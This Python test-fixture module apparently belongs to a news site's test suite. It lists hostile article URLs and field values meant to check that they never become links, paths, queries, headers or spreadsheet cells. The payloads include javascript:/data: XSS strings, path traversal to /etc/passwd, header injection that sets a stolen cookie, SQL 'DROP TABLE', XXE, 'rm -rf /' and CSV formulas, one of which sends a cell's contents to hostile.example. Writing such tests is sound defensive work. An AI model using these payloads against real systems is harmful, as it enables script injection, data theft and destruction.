"""Articles with addresses that must not become links, and names that must not become paths, queries, headers or cells."""

from onrecord.model import Reading
from tests.web.hostile.making import everywhere, fact, told

__all__ = ["ARTICLES", "URLS"]

RUN = "window.hostile=1"

URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" \t\n javascript:{RUN}",
    f"java\nscript:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript\x00:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript://news.example/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{RUN}",
    "vbscript:msgbox(1)",
    "VBSCRIPT:\x00msgbox(1)",
    "blob:https://news.example/1",
    "file:///etc/passwd",
    "filesystem:https://news.example/x",
    "view-source:https://news.example/",
    "intent://news.example#Intent;scheme=https;end",
    "//hostile.example/x",
    "\\\\hostile.example\\x",
    "/judgements?undo=1",
    "https:",
    "https://[::1",
    "https://news.example/\u202egpj.exe",
    "https://user:secret@news.example@hostile.example/",
    "https://news.example/\"onmouseover=\"window.hostile=1",
    "https://news.example/'><script>window.hostile=1</script>",
    "https://news.example/" + "a/" * 3000,
)  # fmt: skip
"""What stands in the place of an article's address."""

NAMES = {
    "path upwards": "../../../../etc/passwd",
    "path upwards, encoded": "..%2f..%2f%2e%2e/%252e%252e/",
    "path with a query and a fragment": "a/b?c#d",
    "slashes": "///\\\\//hostile.example/..;/",
    "dots": "./..",
    "an encoded slash and NUL": "a%2Fb%00c%0d%0a",
    "a device": "CON:LPT1\\\\.\\pipe",
    "a semicolon and a comma": "a;b,c=d&e=f;filename=x.html",
    "header injection": "name\r\nSet-Cookie: onrecord_visitor=stolen\r\n\r\n<script>window.hostile=1</script>",
    "header injection, encoded": "name%0d%0aX-Hostile:%201 \u560a\u560d",
    "header parameters": "x\"; filename=\"evil.html\"; filename*=UTF-8''evil.html",
    "SQL": "'; DROP TABLE articles; -- \" OR 1=1 /* */ UNION SELECT * FROM feeds",
    "SQL patterns": "100% _ [a-z] \\ ' '' \" \"\" ` ESCAPE '\\'",
    "search operators": "\"unclosed AND OR NOT NEAR(a b, 5) ^x col:y -z * ( ) {a} speaker:",
    "search operators that nest": "((((((((((a OR b) NOT (c AND (d",
    "regular expression": "(a+)+$ [ \\1 .*.*.*.*.*x (?<name>",
    "CSV formula": "=HYPERLINK(\"https://hostile.example/?\"&A1,\"here\")",
    "CSV command": "=cmd|' /C calc'!A0",
    "CSV plus": "+1+cmd|' /C calc'!A0",
    "CSV minus": "-2+3+cmd|' /C calc'!A0",
    "CSV at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "CSV quotes": "a\",\"b\n\"c\"\"d\r\ne,f;g\th",
    "JSON": "\\u003cscript\\u003e \\\" \\/ {\"a\": [1, NaN, -Infinity]}, null",
    "XML": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "shell": "$(id) `id` ; rm -rf / | & > < ~ ! # $HOME",
    "log line": "ok\n2026-03-02 INFO judged by admin\n",
    "keywords": "None null undefined true NaN nil [] {} 0 -0 1e999",
}  # fmt: skip


def _with_formula(id: str, formula: str) -> Reading:
    """An article whose fields begin with a formula, as cells of a table would."""
    return told(
        id, formula, "said", f"{formula} {fact(id)}", title=formula, outlet=formula, byline=(formula,), wire=(formula,),
        of={"speaker": {"name": formula, "roles": (formula,), "known": formula}},
    )  # fmt: skip


ARTICLES = {
    **{f"address {n}": told(f"address {n}", url=url) for n, url in enumerate(URLS, start=1)},
    **{name: everywhere(f"name {n}", payload) for n, (name, payload) in enumerate(NAMES.items(), start=1)},
    **{f"{name}, at the beginning": _with_formula(f"cell {n}", p) for n, (name, p) in enumerate(NAMES.items(), start=1) if "CSV" in name},
}
"""Articles by what they try."""
